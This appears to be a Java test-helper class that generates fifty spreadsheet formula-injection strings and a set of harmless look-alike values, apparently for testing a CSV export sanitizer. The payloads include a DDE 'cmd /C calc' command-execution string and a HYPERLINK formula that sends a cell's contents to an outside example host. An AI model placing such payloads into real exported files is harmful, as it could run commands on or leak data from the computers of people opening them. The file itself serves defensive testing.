package dev.winnow.web;

import java.util.List;
import java.util.stream.Stream;

/** Texts that spreadsheet programs have taken for formulas. */
final class FormulaTexts {

    private static final List<String> STARTS = List.of("=", "+", "-", "@", "\t=", "\n=", "=\t", "+-", "@=", "==");
    private static final List<String> ENDS = List.of(
            "cmd|' /C calc'!A0", "1+1", "SUM(A1)", "HYPERLINK(\"http://a.example?x=\"&A1,\"see\")", "2+3;\"a,b\"");

    private FormulaTexts() {}

    /** Fifty of them. */
    static List<String> all() {
        return STARTS.stream()
                .flatMap(start -> ENDS.stream().map(end -> start + end))
                .toList();
    }

    /** Texts that look alike and are harmless. */
    static List<String> numbersAndNames() {
        return Stream.of("-2", "+49", "-2.5", "L=1", "a@b.example", "1-2", "'=1", "Zoë, \"Z\"\r\n 李")
                .map(text -> text.replace("\r", ""))
                .toList();
    }
}
